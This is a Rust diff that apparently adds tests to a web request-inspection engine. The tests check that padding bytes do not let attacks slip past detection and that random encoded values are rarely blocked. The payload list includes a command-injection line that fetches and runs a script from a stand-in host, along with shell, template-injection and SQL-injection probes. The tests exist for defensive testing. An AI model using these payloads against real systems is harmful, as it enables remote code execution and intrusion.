@@ -303,3 +303,47 @@ fn is_blocked(request: &InspectRequest) -> bool {
     let findings = Engine::new().inspect(request).findings;
     score::of_request(&findings) >= Sensitivity::Balanced.threshold()
 }
+
+#[test]
+fn bytes_and_marks_before_an_attack_are_no_noise() {
+    let marks = escaped("!#%,./:=?@[]^_~-+*").repeat(3);
+    let engine = Engine::new();
+    let mut missed = Vec::new();
+    for padding in [&*"%0b".repeat(64), &"%01%02%03%04".repeat(20), &"%80%81%fe".repeat(30), &marks] {
+        for payload in ["$(curl http://evil.example/x|sh)", ";id;", "$(id)", "{{7*7}}", "'||'1"] {
+            for part in [Part::Query, Part::Form, Part::Cookie] {
+                let is_found = |padding: &str| {
+                    let request = part.request(&format!("{padding}{}", escaped(payload)));
+                    score::of_request(&engine.inspect(&request).findings) >= Sensitivity::Balanced.threshold()
+                };
+                if is_found("") && !is_found(padding) {
+                    missed.push(format!("{part:?} {payload} after {}", &padding[..12]));
+                }
+            }
+        }
+    }
+    assert!(missed.is_empty(), "{} missed:\n{}", missed.len(), missed.join("\n"));
+}
+
+#[test]
+fn random_values_are_benign() {
+    const COUNT: usize = 3_000;
+    let engine = Engine::new();
+    let mut state = 88_172_645_463_325_252_u64;
+    let mut next = |limit: u64| {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        (state >> 11) % limit
+    };
+    for (first, kinds) in [(0, 256), (33, 94)] {
+        let is_blocked = |_: &usize| {
+            let length = 64 + next(400);
+            let value: String = (0..length).map(|_| format!("%{:02X}", first + next(kinds))).collect();
+            let findings = engine.inspect(&Part::Query.request(&value)).findings;
+            score::of_request(&findings) >= Sensitivity::Balanced.threshold()
+        };
+        let blocked = (0..COUNT).filter(is_blocked).count();
+        assert!(blocked * 1_000 <= COUNT * 5, "{blocked} of {COUNT} values of {kinds} bytes");
+    }
+}
